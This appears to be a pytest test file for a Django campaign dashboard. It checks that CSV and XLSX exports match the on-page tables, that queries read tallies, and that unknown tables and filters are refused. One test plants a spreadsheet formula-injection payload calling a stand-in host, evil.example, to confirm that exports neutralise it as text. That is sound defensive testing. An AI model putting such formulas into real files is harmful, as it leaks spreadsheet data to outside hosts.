"""Every table of the dashboard downloads as CSV and as XLSX: both open (read back with the
csv module and openpyxl) and hold exactly the rows the page shows, with the same filters.
Text that could run as a spreadsheet formula is written as text."""

from __future__ import annotations

import io
from datetime import datetime

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from tests.reporting.reports import (
    counted_actions,
    csv_rows,
    page_table,
    report_staff,
)
from writeathon.campaigns.models import Case

pytestmark = pytest.mark.django_db

TABLES = [
    "goal",
    "cases",
    "countries",
    "channels",
    "sources",
    "days",
    "editions",
    "funnel",
    "case-countries",
]


@pytest.fixture
def other(case: Case) -> Case:
    return Case.objects.get(campaign=case.campaign, slug="annie-alfred")


@pytest.mark.parametrize("query", ["", "?channel=email", "?day_from=2016-12-01&day_to=2016-12-31"])
def test_csv_and_xlsx_of_every_table_hold_the_pages_rows(
    case: Case, other: Case, query: str
) -> None:
    counted_actions(case, other)
    staff = report_staff("ines", section=None)
    page = staff.get(f"/staff/reports/{query}")
    assert page.status_code == 200
    html = page.content.decode()
    for slug in TABLES:
        shown = page_table(html, slug)
        if shown and len(shown[0]) == 1:  # "Nothing counted yet."
            shown = []

        response = staff.get(f"/staff/reports/{slug}.csv{query}")
        assert response.status_code == 200
        assert response["Content-Type"].startswith("text/csv")
        assert "attachment" in response["Content-Disposition"]
        rows = csv_rows(response.content)
        assert len(rows[0]) >= 2  # the headers
        assert _plain(rows[1:]) == _plain(shown), slug

        response = staff.get(f"/staff/reports/{slug}.xlsx{query}")
        assert response.status_code == 200
        book = load_workbook(io.BytesIO(response.content))
        sheet = book.worksheets[0]
        values = [list(row) for row in sheet.iter_rows(values_only=True)]
        assert [str(h) for h in values[0]] == rows[0], slug
        assert _plain([[_xlsx(value) for value in row] for row in values[1:]]) == _plain(shown), (
            slug
        )

    # The per-country figures are there at all (not two empty files that agree).
    assert page_table(html, "countries")


def _plain(rows: list[list[str]]) -> list[list[object]]:
    """Cells compared by what they say: "1,234" on the page is 1234 in a file."""

    def value(cell: str) -> object:
        try:
            return float(cell.replace(",", ""))
        except ValueError:
            return cell

    return [[value(cell) for cell in row] for row in rows]


def _xlsx(value: object) -> str:
    if isinstance(value, datetime):  # openpyxl reads a date cell back as a datetime
        return value.date().isoformat()
    return str(value)


def test_a_case_named_like_a_formula_is_text_in_both_files(case: Case, other: Case) -> None:
    Case.objects.filter(pk=case.pk).update(name='=HYPERLINK("http://evil.example/?"&A1,"x")')
    counted_actions(case, other)
    staff = report_staff("ines", section=None)

    rows = csv_rows(staff.get("/staff/reports/cases.csv").content)
    named = [row[0] for row in rows[1:] if "HYPERLINK" in row[0]]
    assert named == ['\'=HYPERLINK("http://evil.example/?"&A1,"x")']

    book = load_workbook(io.BytesIO(staff.get("/staff/reports/case-countries.xlsx").content))
    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row]
    evil = [cell for cell in cells if "HYPERLINK" in str(cell.value)]
    assert evil and all(cell.data_type == "s" for cell in evil)
    assert all(str(cell.value).startswith("'=") for cell in evil)
    assert not any(cell.data_type == "f" for cell in cells)


def test_the_dashboard_reads_tallies_not_actions(case: Case, other: Case) -> None:
    counted_actions(case, other)
    staff = report_staff("ines", section=None)
    with CaptureQueriesContext(connection) as queries:
        assert staff.get("/staff/reports/").status_code == 200
    assert not [q["sql"] for q in queries.captured_queries if "actions_action" in q["sql"]]
    assert any("actions_tallybycountry" in q["sql"] for q in queries.captured_queries)


def test_unknown_tables_formats_and_filters_are_refused(case: Case) -> None:
    staff = report_staff("ines", section=None)
    assert staff.get("/staff/reports/secrets.csv").status_code == 404
    assert staff.get("/staff/reports/cases.pdf").status_code == 404
    for query in [
        "?day_from=yesterday",
        "?case=abc",
        "?channel=pigeon",
        "?day_from=2017-01-02&day_to=2017-01-01",
    ]:
        response = staff.get(f"/staff/reports/{query}")
        assert response.status_code == 400, query
        assert b"These filters are not known" in response.content
